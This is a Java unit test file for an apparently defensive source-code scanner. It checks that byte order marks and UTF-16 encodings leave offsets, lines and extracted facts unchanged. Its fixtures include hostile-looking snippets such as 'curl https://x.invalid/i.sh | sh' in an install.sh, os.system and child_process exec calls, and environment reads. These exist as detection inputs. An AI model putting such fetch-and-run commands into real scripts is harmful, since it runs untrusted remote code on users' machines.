package dev.assay.extract.component.code;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.assay.engine.fact.CodeCall;
import dev.assay.engine.fact.Fact;
import dev.assay.extract.component.ScanSettings;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * The parser and the analysers read a file's own bytes: a leading byte order mark stays in them and UTF-16 is parsed
 * as UTF-16, so every node has the file's byte offsets and every fact the file's lines; the facts are the same as for
 * the same text in plain UTF-8, and both parse paths (the native reader and the binding) give the same tree.
 */
class FileBytesTest {

    private static final SyntaxParser.Budget ENOUGH = new SyntaxParser.Budget(10_000_000, 60_000_000_000L, 4_096);

    /** One source per language whose facts include a call on a later line, a string value and a comment. */
    static Stream<Arguments> sources() {
        return Stream.of(
                Arguments.of(Language.PYTHON, "setup.py", "import os  # é\n\nos.system('curl https://x.invalid/a')\n"
                        + "x = f\"{os.environ['HOME']}\"\nexec(\"print('hi')\")\n"),
                Arguments.of(Language.JAVASCRIPT, "index.js", "const cp = require('child_process'); // é\n\n"
                        + "cp.exec(\"curl https://x.invalid/a | sh\");\nconst u = `${process.env.HOME}/x`;\n"),
                Arguments.of(Language.TYPESCRIPT, "index.ts", "import { execSync } from 'child_process'; // é\n"
                        + "const n: number = 1;\n\nexecSync('id');\n"),
                Arguments.of(Language.BASH, "install.sh", "#!/bin/sh\n# é\n\ncurl -fsSL https://x.invalid/i.sh | sh\n"
                        + "echo $'a\\tb' \"q\"\n"));
    }

    @ParameterizedTest
    @MethodSource("sources")
    void aLeadingUtf8ByteOrderMarkKeepsTheFilesOffsetsAndLines(Language language, String file, String text) {
        byte[] plain = text.getBytes(StandardCharsets.UTF_8);
        byte[] marked = concat(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}, plain);
        SyntaxTree withMark = bothPaths(language, marked, SourceText.Encoding.UTF_8);
        SyntaxTree without = bothPaths(language, plain, SourceText.Encoding.UTF_8);
        assertFalse(withMark.root().hasError(), withMark.root().toString());
        assertEquals(without.size(), withMark.size());
        for (int i = 1; i < without.size(); i++) { // every node but the root is 3 bytes later, as in the file
            SyntaxNode a = new SyntaxNode(without, i);
            SyntaxNode b = new SyntaxNode(withMark, i);
            assertEquals(a.type() + "@" + (a.startByte() + 3) + ".." + (a.endByte() + 3), b.toString(), "node " + i);
        }
        assertEquals(facts(file, language, plain, SourceText.Encoding.UTF_8),
                facts(file, language, marked, SourceText.Encoding.UTF_8));
    }

    @ParameterizedTest
    @MethodSource("sources")
    void utf16IsParsedAsUtf16WithTheFilesOffsetsAndLines(Language language, String file, String text) {
        byte[] plain = text.getBytes(StandardCharsets.UTF_8);
        SyntaxTree utf8 = bothPaths(language, plain, SourceText.Encoding.UTF_8);
        List<Fact> expected = facts(file, language, plain, SourceText.Encoding.UTF_8);
        for (SourceText.Encoding encoding : List.of(SourceText.Encoding.UTF_16LE, SourceText.Encoding.UTF_16BE)) {
            byte[] bytes = concat(encoding == SourceText.Encoding.UTF_16LE ? new byte[] {(byte) 0xFF, (byte) 0xFE}
                    : new byte[] {(byte) 0xFE, (byte) 0xFF}, text.getBytes(encoding == SourceText.Encoding.UTF_16LE
                    ? StandardCharsets.UTF_16LE : StandardCharsets.UTF_16BE));
            SyntaxTree utf16 = bothPaths(language, bytes, encoding);
            assertFalse(utf16.root().hasError(), encoding + " " + utf16.root());
            assertEquals(utf8.size(), utf16.size(), encoding.toString());
            for (int i = 1; i < utf8.size(); i++) {
                SyntaxNode a = new SyntaxNode(utf8, i);
                SyntaxNode b = new SyntaxNode(utf16, i);
                // the file's byte offsets: 2 for the mark, then 2 per UTF-16 unit of the text before the node
                assertEquals(a.type() + "@" + utf16Offset(text, a.startByte()) + ".." + utf16Offset(text, a.endByte()),
                        b.toString(), encoding + " node " + i);
            }
            assertEquals(expected, facts(file, language, bytes, encoding), encoding.toString());
        }
    }

    @Test
    void factsAfterAByteOrderMarkAreOnTheFilesLines() {
        byte[] marked = concat(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF},
                "import os\n\nos.system('id')\n".getBytes(StandardCharsets.UTF_8));
        CodeFacts facts = analysed("run.py", Language.PYTHON, marked, SourceText.Encoding.UTF_8);
        CodeCall system = Analyze.call(facts, "os.system");
        assertEquals(3, system.line());
        assertEquals("os.system('id')", system.snippet());
        assertEquals("import os", facts.imports().get(0).snippet(), "the mark is not part of a snippet");
    }

    /** A byte that is not valid UTF-8 stays one byte: what follows keeps the file's offsets. */
    @Test
    void anInvalidUtf8ByteKeepsTheFilesOffsets() {
        byte[] bytes = concat("x = 1  # \u00e9".getBytes(StandardCharsets.UTF_8), new byte[] {(byte) 0xFF},
                "\nimport os\n".getBytes(StandardCharsets.UTF_8));
        SyntaxTree tree = bothPaths(Language.PYTHON, bytes, SourceText.Encoding.UTF_8);
        SyntaxNode imported = tree.root().namedChild(tree.root().namedChildCount() - 1);
        assertEquals("import_statement@" + (bytes.length - 10), imported.type() + "@" + imported.startByte());
    }

    @Test
    void utf16SourceTextSlicesLinesAndSnippetsByTheFilesOffsets() {
        String text = "ab\n'c\u00e9\ud83d\ude00'\nx\\\ny\n";
        byte[] bytes = concat(new byte[] {(byte) 0xFE, (byte) 0xFF}, text.getBytes(StandardCharsets.UTF_16BE));
        SourceText src = new SourceText(bytes, SourceText.Encoding.UTF_16BE, 40);
        assertEquals(5, src.lineCount());
        assertEquals(1, src.lineAt(2));
        assertEquals(2, src.lineAt(8));
        assertEquals("c\u00e9\ud83d\ude00", src.inner(8, 20, 1, 1, 100));
        assertEquals("'c\u00e9\ud83d\ude00'", src.snippetAt(10));
        assertEquals("ab", src.slice(0, 6, 100), "the mark is not text");
        assertEquals('\'', src.asciiAt(8));
        assertEquals(-1, src.asciiAt(12), "é is not ASCII");
        assertEquals(-1, src.asciiAt(0), "the mark is not a character");
        assertTrue(src.hasLineBreak(0, 8));
        assertFalse(src.hasLineBreak(22, 28), "an escaped line break");
        assertEquals("", src.inner(8, 9, 1, 1, 100));
    }

    private static int utf16Offset(String text, int utf8Offset) {
        byte[] utf8 = text.getBytes(StandardCharsets.UTF_8);
        return 2 + 2 * new String(utf8, 0, utf8Offset, StandardCharsets.UTF_8).length();
    }

    /** The tree of the native reader (where it is built) and of the binding, which must be the same. */
    private static SyntaxTree bothPaths(Language language, byte[] bytes, SourceText.Encoding encoding) {
        SyntaxTree binding = ((SyntaxParser.Parsed) SyntaxParser.parseThroughBinding(language, bytes, encoding,
                ENOUGH, Long.MAX_VALUE)).tree();
        if (NativeTreeReader.available()) {
            SyntaxTree nativeTree = ((SyntaxParser.Parsed) SyntaxParser.parseNatively(language, bytes, encoding,
                    ENOUGH)).tree();
            assertArrayEquals(binding.nodes(), nativeTree.nodes(), language + " " + encoding);
        }
        return binding;
    }

    private static CodeFacts analysed(String file, Language language, byte[] bytes, SourceText.Encoding encoding) {
        SourceAnalyzer.Result result = new SourceAnalyzer(ScanSettings.bundled()).analyze(file, language, bytes,
                encoding, file.equals("setup.py"));
        assertTrue(result instanceof SourceAnalyzer.Analysed, result.toString());
        return ((SourceAnalyzer.Analysed) result).facts();
    }

    private static List<Fact> facts(String file, Language language, byte[] bytes, SourceText.Encoding encoding) {
        List<Fact> facts = analysed(file, language, bytes, encoding).facts();
        assertTrue(facts.size() >= 3, facts.toString());
        return facts;
    }

    private static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] p : parts) {
            out.writeBytes(p);
        }
        return out.toByteArray();
    }
}
